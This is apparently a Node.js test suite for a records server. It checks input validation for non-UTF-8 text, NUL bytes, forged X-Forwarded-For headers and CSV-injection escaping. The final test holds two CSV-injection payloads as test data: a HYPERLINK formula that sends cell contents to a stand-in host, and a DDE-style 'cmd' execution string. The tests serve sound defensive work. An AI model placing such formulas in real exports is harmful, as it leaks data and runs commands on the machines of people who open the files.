// Strings from outside are checked where they enter (issue 9 §3): a query
// argument, a header the server keeps (X-Forwarded-For, Idempotency-Key,
// User-Agent), a CSV cell. Invalid UTF-8, NUL and control characters are
// refused with a 400 naming them, or (an address) not taken; nothing invalid
// is ever stored, so no list answers 500 afterwards.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import {
  startServer, adminClient, expectStatus, expectError, rawRequest, sql, Client, ADMIN_PASSWORD,
} from './lib.mjs';

let srv; let admin;
const CSV = { type: 'text/csv' };
const good = 'name,id_number\n张三,11010519491231002X\n';

before(async () => {
  srv = await startServer({ serveArgs: ['--trust-proxy'] });
  admin = await adminClient(srv);
});
after(async () => { await srv?.stop(); });

test('a query argument that is not UTF-8 text is 400 naming it, and nothing is stored', async () => {
  const before = (await sql(srv.db, 'SELECT COUNT(*) FROM import_batches')).trim();
  expectError(await admin.post('/api/v1/imports/persons?source=%ff', good, CSV), 400, 'invalid', 'source');
  expectError(await admin.post('/api/v1/imports/persons?source=ok&filename=%ff%fe', good, CSV), 400, 'invalid', 'filename');
  expectError(await admin.post('/api/v1/imports/persons?filename=a%00b', good, CSV), 400, 'invalid', 'filename');
  expectError(await admin.post('/api/v1/imports/persons?filename=%ed%a0%80', good, CSV), 400, 'invalid', 'filename', 'a surrogate');
  expectError(await admin.get('/api/v1/units?q=%c0%af'), 400, 'invalid', 'q');
  expectError(await admin.get('/api/v1/units?%ff=1'), 400, 'invalid', 'query');
  assert.equal((await sql(srv.db, 'SELECT COUNT(*) FROM import_batches')).trim(), before);
  for (const f of ['json', 'csv', 'xlsx']) expectStatus(await admin.get(`/api/v1/imports?format=${f}`), 200, f);
  // Good text still goes through.
  const ok = expectStatus(await admin.post(`/api/v1/imports/persons?source=${encodeURIComponent('电信')}&filename=${encodeURIComponent('名单.csv')}`, good, CSV), 200);
  assert.equal(ok.body.source, '电信');
});

test('a forged X-Forwarded-For is not taken as the address, and the audit log keeps answering', async () => {
  const bad = await rawRequest(srv.base, 'POST', '/api/v1/session', {
    headers: { 'Content-Type': 'application/json', 'X-Forwarded-For': '\xff\xfe', 'User-Agent': 'ua\xff' },
    body: JSON.stringify({ username: 'admin', password: 'wrong-password' }),
  });
  assert.equal(bad.status, 401, bad.text);
  const audit = expectStatus(await admin.get('/api/v1/audit?limit=5'), 200, 'audit after a forged header');
  assert.ok(audit.body.items.every((a) => a.ip === null || /^[0-9a-f:.]+$/i.test(a.ip)), JSON.stringify(audit.body.items));
  for (const f of ['csv', 'xlsx']) expectStatus(await admin.get(`/api/v1/audit?format=${f}`), 200, f);
  // A session made with a forged User-Agent lists fine.
  const s = await rawRequest(srv.base, 'POST', '/api/v1/session', {
    headers: { 'Content-Type': 'application/json', 'User-Agent': 'ua\xff' },
    body: JSON.stringify({ username: 'admin', password: ADMIN_PASSWORD }),
  });
  assert.equal(s.status, 200, s.text);
  // The address is the right-most entry that is an address.
  const c = new Client(srv.base);
  const r = await c.req('POST', '/api/v1/session', { username: 'admin', password: 'nope' },
    { csrf: false, cookie: false, headers: { 'X-Forwarded-For': '203.0.113.9, 198.51.100.7' } });
  assert.equal(r.status, 401);
  const last = expectStatus(await admin.get('/api/v1/audit?limit=1&action=login'), 200);
  assert.equal(last.body.items[0].ip, '198.51.100.7', JSON.stringify(last.body.items[0]));
});

test('an Idempotency-Key with control characters is 400', async () => {
  const res = await rawRequest(srv.base, 'GET', '/healthz', {});
  assert.equal(res.status, 200);
  const r = await admin.post('/api/v1/units', { parent_id: admin.root.id, kind: 'subdistrict', code: 'IN-IK', name: '键' },
    { headers: { 'Idempotency-Key': 'k\xff' } });
  expectError(r, 400, 'invalid', 'Idempotency-Key');
});

test('a units CSV with a NUL byte is refused whole, never stored cut short', async () => {
  const body = Buffer.from(`parent_code,kind,code,name\n${'640106'},subdistrict,NUL-1,a\0b\n`);
  const code = (await sql(srv.db, 'SELECT code FROM units WHERE id = 1')).trim();
  const res = await admin.post('/api/v1/imports/units', Buffer.from(body.toString().replace('640106', code)), CSV);
  expectError(res, 400, 'invalid', 'body');
  assert.match(res.body.error.message, /NUL/);
  assert.equal((await sql(srv.db, "SELECT COUNT(*) FROM units WHERE code = 'NUL-1'")).trim(), '0');
});

test('a household address written as a formula comes out of a CSV export as text (CSV injection)', async () => {
  const S = expectStatus(await admin.post('/api/v1/units', { parent_id: admin.root.id, kind: 'subdistrict', code: 'FX-S', name: '公式街道' }), 201).body;
  const C = expectStatus(await admin.post('/api/v1/units', { parent_id: S.id, kind: 'community', code: 'FX-C', name: '公式社区' }), 201).body;
  const K = expectStatus(await admin.post('/api/v1/units', { parent_id: C.id, kind: 'compound', code: 'FX-K', name: '公式小区' }), 201).body;
  const evil = '=HYPERLINK("http://example.invalid/?leak="&A2,"click")';
  expectStatus(await admin.post('/api/v1/households', { unit_id: K.id, address: evil }), 201);
  expectStatus(await admin.post('/api/v1/households', { unit_id: K.id, address: '@SUM(1+1)*cmd|"/C calc"!A0' }), 201);
  const csv = expectStatus(await admin.get(`/api/v1/households?unit_id=${K.id}&format=csv`), 200);
  const lines = csv.text.split('\r\n');
  assert.ok(!lines.some((l) => l.split(',').some((cell) => /^"?[=+@]/.test(cell))), `a live formula in: ${csv.text}`);
  assert.ok(csv.text.includes(`"'=HYPERLINK(""http://example.invalid/?leak=""&A2,""click"")"`), csv.text);
  // The JSON keeps what was typed.
  const json = expectStatus(await admin.get(`/api/v1/households?unit_id=${K.id}`), 200);
  assert.ok(json.body.items.some((h) => h.address === evil));
});
